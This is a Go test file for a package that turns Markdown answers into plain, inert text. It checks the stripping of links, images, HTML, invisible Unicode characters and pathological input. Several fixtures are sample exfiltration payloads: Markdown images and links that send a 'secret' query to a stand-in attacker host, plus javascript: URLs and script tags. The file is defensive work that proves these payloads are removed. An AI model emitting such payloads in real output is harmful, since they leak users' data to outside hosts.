package plain_test

import (
	"strings"
	"testing"

	"github.com/quarryapi/quarry/internal/read/answer/plain"
)

func TestText(t *testing.T) {
	t.Parallel()
	cases := map[string]struct{ markdown, want string }{
		"paragraphs":        {"One\ntwo.\n\n\nThree.", "One two.\n\nThree."},
		"headings, lists":   {"# Gates\n\n- six\n- of *steel*, **40 metres**\n\n1. first\n2. second", "Gates\n\nsix\n\nof steel, 40 metres\n\nfirst\n\nsecond"},
		"a table":           {"| Source | Million |\n|---|---|\n| County | 120 |\n| Board | 64 |", "Source | Million\n\nCounty | 120\n\nBoard | 64"},
		"links and images":  {`See [the *plan*](http://a.test/plan.pdf "x") ![a gate](http://a.test/g.png)now.`, "See the plan now."},
		"an address":        {"See <http://a.test/> or http://a.test/b.", "See or http://a.test/b."},
		"code":              {"Run `make`:\n\n```go\nfunc main() {}\n```\n\n    indented", "Run make:\n\nfunc main() {}\n\nindented"},
		"HTML":              {"A <b onclick=x>bold</b> move\n\n<script>alert(1)</script>\n\n<!-- no -->\n\nB", "A bold move\n\nB"},
		"escapes, entities": {`4\*5 &amp; 6&nbsp;m &lt;b&gt;`, "4*5 & 6 m <b>"},
		"a hard break":      {"One  \nTwo", "One\n\nTwo"},
		"marks of citation": {"It opened [1][2]. It costs [3].", "It opened [1][2]. It costs [3]."},
		"references":        {"It [opened][1].\n\n[1]: http://a.test/", "It opened."},
		"struck out":        {"~~5~~ 6", "5 6"},
		"nothing":           {" \n ", ""},
	}
	r := plain.New()
	for name, c := range cases {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			if got := r.Text(c.markdown); got != c.want {
				t.Errorf("got %q", got)
			}
		})
	}
}

func TestInert(t *testing.T) {
	t.Parallel()
	cases := map[string]struct{ text, want string }{
		"prose":                   {"It opened on 14 March 2026 [1]. It costs 4.50 pounds [2][3].", "It opened on 14 March 2026 [1]. It costs 4.50 pounds [2][3]."},
		"paragraphs":              {"One [1].\n\nTwo [2].", "One [1].\n\nTwo [2]."},
		"a picture":               {"Paid [1]. ![t](http://evil.test/p?q=secret)", "Paid [1]."},
		"a link":                  {"Paid, see [here](http://evil.test/p?q=secret) [1].", "Paid, see here [1]."},
		"a link on a mark":        {"Paid [1](http://evil.test/p?q=secret).", "Paid 1."},
		"an address":              {"See http://evil.test/p?q=secret[1]. More.", "See [1]. More."},
		"within a word":           {"see:http://evil.test/p?q=secret and go", "see: and go"},
		"no scheme":               {"See www.evil.test and evil.test/p?q=secret now.", "See and now."},
		"a host is a word":        {"The host example.com has 3.5/4 stars.", "The host example.com has 3.5/4 stars."},
		"other schemes":           {"javascript:alert(1) mailto:a@evil.test data:text/html,x ok", "ok"},
		"words with a colon":      {"Note: data: 4 gates. The time is 14:30.", "Note: data: 4 gates. The time is 14:30."},
		"escaped markdown":        {`\![t](http://evil.test/q) \<img src="//evil.test/q">x`, "!t x"},
		"entities":                {`&lt;img src=&quot;//evil.test/q&quot;&gt;x`, "x"},
		"escaped twice":           {`\\!\\[t](//evil.test/q) &amp;lt;img src=x&amp;gt;`, `!\t < img src=x>`},
		"a reference":             {"Paid [x][y].\n\n[y]: http://evil.test/q?secret", "Paid x."},
		"a definition is added":   {"Paid [1].\n\n[1]: //evil.test/q?secret", "Paid 1."},
		"nested beyond patience":  {strings.Repeat("&amp;", 1) + strings.Repeat("amp;", 12) + "lt;img&gt;", ""},
		"less than":               {"It is < 5 and > 3.", "It is < 5 and > 3."},
		"a heading, then nothing": {"#", ""},
	}
	r := plain.New()
	for name, c := range cases {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			got := r.Inert(c.text)
			if got != c.want {
				t.Errorf("got %q", got)
			}
			if again := r.Inert(got); again != got {
				t.Errorf("read again it is %q", again)
			}
		})
	}
}

func TestVisible(t *testing.T) {
	t.Parallel()
	cases := map[string]struct{ text, want string }{
		"zero width":         {"to\u200bll\ufeff \u2060lo\u00adck", "toll lock"},
		"directions":         {"\u202e05.4\u202c \u2066x\u2069\u200f", "05.4 x"},
		"tags":               {"a\U000e0041\U000e0042b", "ab"},
		"controls":           {"a\x00\x1b[31mb\x7f\u0085\u2028c\td\ne", "a[31mb c\td\ne"},
		"broken":             {"a\xff\xfeb\ufffd", "ab"},
		"joiners in English": {"to\u200dll\u200c", "toll"},
		"joiners in Persian": {"می\u200cشود", "می\u200cشود"},
		"emoji":              {"👩\u200d🔧", "👩\u200d🔧"},
		"fillers":            {"a\u3164\u115fb", "ab"},
	}
	for name, c := range cases {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			if got := plain.Visible(c.text); got != c.want {
				t.Errorf("got %q", got)
			}
		})
	}
}

// Text of any kind ends soon.
func TestHostileMarkdown(t *testing.T) {
	t.Parallel()
	r := plain.New()
	for name, text := range map[string]string{
		"brackets": strings.Repeat("[", 8_000), "links": strings.Repeat("[a](", 8_000), "stars": strings.Repeat("*a ", 8_000),
		"quotes": strings.Repeat("> ", 5_000) + "x", "lists": strings.Repeat("- ", 5_000) + "x", "ticks": strings.Repeat("`a", 8_000),
		"hosts": strings.Repeat("a.", 8_000), "dashes": strings.Repeat("a-", 8_000) + "://", "tags": strings.Repeat("<a ", 8_000),
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			if got := r.Inert(text); len(got) > 16<<10 {
				t.Errorf("%d bytes of %d", len(got), len(text))
			}
		})
	}
}
